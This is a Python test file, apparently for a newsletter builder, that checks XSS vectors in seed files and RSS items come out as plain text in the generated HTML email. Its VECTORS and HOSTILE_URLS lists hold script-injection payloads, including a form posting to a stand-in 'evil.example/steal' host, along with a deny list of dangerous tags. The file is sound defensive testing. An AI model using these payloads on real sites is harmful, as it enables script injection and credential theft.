"""Untrusted text through the whole pipeline: the classic XSS vectors, in titles, article
text, URLs and outlet names, must not survive into issue.html as markup.

Each way hostile text can enter is a "source variant" that writes the same vectors into a
project; today that is seed files with front matter. A feed variant (a local RSS file with
the vectors in <title>, <description>, <link> and the channel title) plugs in as one more
function in SOURCE_VARIANTS.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit
from xml.sax.saxutils import escape

import pytest

from emailkit import build_issue, inspect, new_project

VECTORS = (
    "<script>alert('t1')</script>",
    "<img src=x onerror=\"alert('t2')\">",
    "<svg onload=alert('t3')>",
    "<iframe src=\"javascript:alert('t4')\"></iframe>",
    "<a href=\"javascript:alert('t5')\">click</a>",
    "<style>body{background:url(javascript:alert('t6'))}</style>",
    '<form action="https://evil.example/steal"><input name=p></form>',
    '"><script>alert("t7")</script>',
    "' onmouseover='alert(8)' x='",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg5KTwvc2NyaXB0Pg==">d</a>',
    "<object data=javascript:alert(10)></object><embed src=javascript:alert(11)>",
    "<body onload=alert(12)><meta http-equiv=refresh content='0;url=javascript:alert(13)'>",
    "--><!--<script>alert(14)</script>",
    "<![CDATA[<script>alert(15)</script>]]>",
)
HOSTILE_URLS = (
    "https://wire.example/a\"><script>alert('u1')</script>",
    "https://wire.example/b' onmouseover='alert(2)",
    "javascript:alert('u3')",
    "data:text/html,<script>alert('u4')</script>",
    "https://wire.example/ok?x=<svg/onload=alert(5)>",
    "https://wire.example/story?id=6&utm=x#top",  # harmless: must stay a working link
)
# Sentences the summarizer will pick (they carry the sections' keywords), each with a vector.
# Sentences the summarizer will pick (they carry the sections' keywords), one set per
# vector; the words that vary keep them from being merged, or dropped as near-duplicates.
SENTENCES = (
    "In {city}, the Kremlin told {people} that Russia demands {thing} {v} before {event}.",
    "Zelenskiy met {people} in {city} and asked Ukraine's European allies for {thing} {v}.",
    "The U.S. plan that {people} saw in {city} trades territory for {thing} {v} after {event}.",
)
CITIES = (
    "Vienna Geneva Oslo Warsaw Prague Riga Vilnius Tallinn Helsinki Bern Lisbon Madrid Rome Dublin"
)
PEOPLE = (
    "diplomats", "envoys", "ministers", "generals", "mediators", "lawyers", "negotiators",
    "reporters", "analysts", "senators", "governors", "ambassadors", "observers", "delegates",
)  # fmt: skip
THINGS = (
    "ceasefire monitors", "prisoner swaps", "grain corridors", "energy deals", "sanctions relief",
    "border maps", "troop limits", "nuclear safety", "election dates", "refugee returns",
    "port access", "airspace rules", "water supplies", "debt relief",
)  # fmt: skip
EVENTS = (
    "the winter", "the spring", "the summit", "the vote", "the harvest", "the election",
    "the holidays", "the audit", "the census", "the parade", "the recess", "the budget",
    "the congress", "dawn",
)  # fmt: skip


def hostile_text(n: int, vector: str) -> str:
    words = {
        "city": CITIES.split()[n],
        "people": PEOPLE[n],
        "thing": THINGS[n],
        "event": EVENTS[n],
    }
    return " ".join(s.format(v=vector, **words) for s in SENTENCES)


# A variant writes hostile sources into a project and returns text that must then be visible
# in the email (proof the hostile articles got in, as text).
SourceVariant = Callable[[Path], list[str]]


def seed_variant(project: Path) -> list[str]:
    """Hostile seed files with front matter: title, outlet, url and text."""
    seeds = project / "seeds"
    # Hostile seeds only: beside the founding seed their look-alike sentences are echoes of
    # its items, and since issue 12 an echo's outlet is cited only when it says the same.
    for existing in seeds.iterdir():
        existing.unlink()
    # Seeds refuse a URL that is not http(s) (the whole seed is skipped with a warning), so
    # the vectors ride on the http(s) URLs and the others get seeds of their own.
    usable = [u for u in HOSTILE_URLS if u.startswith("http")]
    for n, url in enumerate(u for u in HOSTILE_URLS if u not in usable):
        (seeds / f"bad-url-{n}.md").write_text(
            f'+++\ntitle = "Kremlin note"\nurl = {_toml(url)}\n+++\n'
            "The Kremlin said Russia demands Kyiv withdraw from four provinces now.\n",
            encoding="utf-8",
        )
    for n, vector in enumerate(VECTORS):
        url = usable[n % len(usable)]
        title = f"Kremlin terms {vector} in Kyiv talks"
        outlet = f"Wire {vector}"
        text = hostile_text(n, vector)
        front = f"title = {_toml(title)}\noutlet = {_toml(outlet)}\nurl = {_toml(url)}\n"
        (seeds / f"hostile-{n:02}.md").write_text(f"+++\n{front}+++\n{text}\n", encoding="utf-8")
    # Each outlet name, as plain text. (Which sentences survive depends on the summarizer
    # and on deduplication, which may merge these look-alike articles into one item.)
    return [f"Wire {vector}" for vector in VECTORS]


def feed_variant(project: Path) -> list[str]:
    """A local RSS file: vectors in the channel title, item titles, links and HTML bodies.
    Until feed ingestion is merged the pipeline ignores [[feeds]]; the test then skips."""
    items = []
    for n, vector in enumerate(VECTORS):
        body = hostile_text(n, vector)
        link = HOSTILE_URLS[n % len(HOSTILE_URLS)]
        items.append(
            f"<item><title>Feedmarker {escape(vector)}</title><link>{escape(link)}</link>"
            f"<guid>hostile-{n}</guid><description>{escape(body)}</description></item>"
        )
    channel = f"<title>Wire {escape(VECTORS[0])}</title><link>https://wire.example/</link>"
    (project / "hostile.xml").write_text(
        f'<?xml version="1.0"?><rss version="2.0"><channel>{channel}{"".join(items)}'
        "</channel></rss>",
        encoding="utf-8",
    )
    with (project / "newsletter.toml").open("a", encoding="utf-8") as config:
        config.write('\n[[feeds]]\nname = "Hostile wire"\nurl = "hostile.xml"\n')
    # The outlet and body text of the hostile items (their titles, which carry vectors, are
    # in title attributes, checked below). Which of their sentences the summarizer picks,
    # once the look-alike items are merged as one story, is its choice: it keeps the U.S.-plan
    # sentence.
    return ["Hostile wire", "trades territory for"]


def _toml(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


SOURCE_VARIANTS: dict[str, SourceVariant] = {"seeds": seed_variant, "feed": feed_variant}

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "object", "embed", "form", "input", "button", "textarea",
    "select", "svg", "math", "base", "applet", "audio", "video", "img",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "poster", "srcset", "data"}


@pytest.mark.parametrize("variant", sorted(SOURCE_VARIANTS))
def test_no_xss_vector_survives_into_issue_html(tmp_path: Path, variant: str) -> None:
    project = new_project(tmp_path / "project")
    config = project / "newsletter.toml"
    roomy = "[[sections]]\nmax_items = 50\nmax_words = 2000"
    config.write_text(config.read_text().replace("[[sections]]", roomy), encoding="utf-8")
    expected = SOURCE_VARIANTS[variant](project)
    folder = build_issue(project)
    if variant == "feed" and '"origin": "feed"' not in (folder / "issue.json").read_text():
        pytest.skip("this pipeline does not ingest [[feeds]] yet (feed ingestion not merged)")
    html = (folder / "issue.html").read_text(encoding="utf-8")
    page = inspect(html)

    # The hostile articles did reach the email, as text a reader can see. Since issue 12 an
    # item cites only the articles that say it (same words, same figures), so look-alike
    # articles that dedup merges are no longer all cited under one item: at least one of
    # them must show, and whatever shows must be plain text (checked below).
    visible = " ".join(page.texts)
    assert any(text in visible for text in expected), expected

    for element in page.elements:
        assert element.tag not in FORBIDDEN_TAGS, element
        if element.tag == "style":
            assert element.ancestors == ("html", "head"), "a <style> outside <head>"
        if element.tag == "meta":
            assert (element.attrs.get("http-equiv") or "").lower() != "refresh", element
        for name, value in element.attrs.items():
            assert not name.startswith("on"), element
            assert name not in ("formaction", "srcdoc"), element
            if name in URL_ATTRIBUTES and value is not None:
                assert urlsplit(value.strip()).scheme in ("http", "https", "mailto"), element
            if name == "style" and value:
                assert "javascript:" not in value and "url(" not in value, element
        if element.tag == "a" and urlsplit(element.attrs.get("href") or "").scheme != "mailto":
            assert "noopener" in (element.attrs.get("rel") or "").split(), element
            assert "<" not in (element.attrs.get("href") or ""), element

    for code in page.code + page.comments:  # style blocks and MSO conditional comments
        assert "alert" not in code and "javascript" not in code, code
    hrefs = [e.attrs.get("href") or "" for e in page.elements if e.tag == "a"]
    for href in hrefs:  # percent-encoded is inert; raw quotes, brackets or spaces are not
        assert not set(href) & set("<>\"' \t\n"), href
    # The harmless URL stays a working link wherever an item cites its article (since issue
    # 12 only the articles that say an item are cited, so it may not be cited at all).
    data = json.loads((folder / "issue.json").read_text(encoding="utf-8"))
    items = [*data["lead"], *(i for sec in data["sections"] for i in sec["items"])]
    if any("story?id=6" in (src["url"] or "") for i in items for src in i["sources"]):
        assert any(h.startswith("https://wire.example/story?id=6") for h in hrefs), hrefs
